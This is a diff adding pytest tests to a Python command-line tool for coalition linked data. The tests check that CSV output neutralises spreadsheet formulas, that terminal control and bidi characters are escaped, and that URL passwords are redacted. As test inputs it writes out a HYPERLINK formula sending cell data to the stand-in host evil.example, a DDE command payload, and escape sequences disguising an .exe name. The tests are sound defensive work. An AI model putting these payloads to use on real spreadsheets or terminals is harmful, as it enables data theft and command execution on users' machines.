@@ -134,3 +134,122 @@ def test_a_lock_file_is_never_opened_through_a_link_or_a_pipe(tmp_path, kind):
     assert not (tmp_path / "report").exists()
     with contextlib.suppress(FileNotFoundError):
         assert not any(p.name.endswith(".tmp") for p in tmp_path.iterdir())
+
+
+# --- text that lands in a spreadsheet or on a terminal ---------------------------------------
+
+EVIL_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+TERMINAL_TRICKS = "\x1b]0;pwned\x07\x1b[2J\u202etxt.exe"
+
+
+def _actor(tmp_path: Path, label: str) -> Path:
+    data = tmp_path / "actor.ttl"
+    data.write_text(f'''@prefix cg: <https://w3id.org/coalitiegraaf/def#> .
+@prefix org: <http://www.w3.org/ns/org#> .
+@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
+<https://w3id.org/coalitiegraaf/id/actor/crafted> a cg:PublicOrganisation ; skos:prefLabel {json_string(label)}@nl .
+<https://w3id.org/coalitiegraaf/id/membership/crafted> a cg:Membership ;
+    org:organization <https://w3id.org/coalitiegraaf/id/coalition/digitale-ethiek> ;
+    org:member <https://w3id.org/coalitiegraaf/id/actor/crafted> ;
+    org:role <https://w3id.org/coalitiegraaf/id/role/partner> .
+''')
+    return data
+
+
+def json_string(text: str) -> str:
+    import json
+
+    return json.dumps(text)  # a Turtle string: JSON's escapes are Turtle's (\\u escapes included)
+
+
+def test_findings_csv_cells_are_neutralised_for_spreadsheets(monkeypatch):
+    import csv
+    import io
+
+    from coalitiegraaf.analysis import findings
+
+    crafted = findings.Finding("overlaps", "https://example.org/a", EVIL_LABEL, 2.0, "https://example.org/b",
+                               "+31 6 12345678", ("@SUM(1+1)*cmd|' /C calc'!A0",), ("-2+3",))
+    monkeypatch.setattr(findings, "analyse", lambda *_args, **_kwargs: [crafted])
+    result = run("analyse", "overlaps", "--format", "csv")
+    assert result.exit_code == 0, result.stderr
+    assert list(csv.reader(io.StringIO(result.stdout)))[1] == [
+        "'" + EVIL_LABEL, "'+31 6 12345678", "2", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"]
+
+
+def test_sparql_csv_results_stay_as_the_standard_writes_them(tmp_path):
+    import csv
+    import io
+
+    query = tmp_path / "labels.rq"
+    query.write_text("SELECT ?l WHERE { <https://w3id.org/coalitiegraaf/id/actor/crafted> "
+                     "<http://www.w3.org/2004/02/skos/core#prefLabel> ?l }\n")
+    result = run("query", "--file", str(query), "--format", "csv", "--data", str(_actor(tmp_path, EVIL_LABEL)))
+    assert list(csv.reader(io.StringIO(result.stdout))) == [["l"], [EVIL_LABEL]]
+
+
+def test_a_number_stays_a_number_in_a_spreadsheet():
+    from coalitiegraaf.store.results import spreadsheet_text
+
+    assert [spreadsheet_text(v) for v in ("-1.5", "+3", "-x", "@SUM(A1)", "\tx", "plain")] == [
+        "-1.5", "+3", "'-x", "'@SUM(A1)", "'\tx", "plain"]
+
+
+@pytest.mark.parametrize("output_format", ["table", "csv", "tsv", "md", "json"])
+def test_control_and_bidi_characters_are_escaped_on_a_terminal(tmp_path, output_format):
+    import pty
+
+    query = tmp_path / "labels.rq"
+    query.write_text("SELECT ?l WHERE { <https://w3id.org/coalitiegraaf/id/actor/crafted> "
+                     "<http://www.w3.org/2004/02/skos/core#prefLabel> ?l }\n")
+    data = _actor(tmp_path, TERMINAL_TRICKS)
+    leader, follower = pty.openpty()
+    process = subprocess.Popen([sys.executable, "-m", "coalitiegraaf", "query", "--file", str(query),
+                                "--format", output_format, "--data", str(data)],
+                               stdout=follower, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
+    os.close(follower)
+    shown = b""
+    with contextlib.suppress(OSError):  # the pty ends with EIO once the process has gone
+        while chunk := os.read(leader, 65536):
+            shown += chunk
+    os.close(leader)
+    assert process.wait(timeout=60) == 0, process.stderr.read()
+    text = shown.decode("utf-8")
+    assert "\x1b]0;" not in text and "\u202e" not in text and "\x07" not in text
+    assert "pwned" in text and ("\\x1b" in text or "\\u001b" in text)
+
+
+def test_output_into_a_file_or_pipe_is_unchanged(tmp_path):
+    query = tmp_path / "labels.rq"
+    query.write_text("SELECT ?l WHERE { <https://w3id.org/coalitiegraaf/id/actor/crafted> "
+                     "<http://www.w3.org/2004/02/skos/core#prefLabel> ?l }\n")
+    result = run("query", "--file", str(query), "--format", "tsv",
+                 "--data", str(_actor(tmp_path, TERMINAL_TRICKS)))
+    assert TERMINAL_TRICKS in result.stdout
+
+
+# --- failures --------------------------------------------------------------------------------
+
+def test_an_unexpected_error_is_one_line_with_exit_code_3_and_how_to_see_more(monkeypatch):
+    import coalitiegraaf.analysis.statistics as statistics
+
+    def broken(_store):
+        raise ImportError("No module named 'networkx'")
+
+    monkeypatch.setattr(statistics, "stats", broken)
+    result = run("stats")
+    assert result.exit_code == 3
+    assert result.stderr == ("Error: internal error, ImportError: No module named 'networkx' (run again with "
+                             "COALITIEGRAAF_DEBUG=1 for the traceback, and please report it)\n")
+    monkeypatch.setenv("COALITIEGRAAF_DEBUG", "1")
+    with pytest.raises(ImportError):
+        run("stats")
+
+
+def test_a_password_in_a_url_is_never_printed():
+    from coalitiegraaf.cli.output import without_secrets
+
+    assert without_secrets("cannot reach https://ada:l0velace@example.org:8890/sparql: refused") == (
+        "cannot reach https://ada:***@example.org:8890/sparql: refused")
+    result = run("--endpoint", "http://ada:l0velace@127.0.0.1:9/sparql", "stats")
+    assert result.exit_code == 3 and "l0velace" not in result.stderr + result.stdout
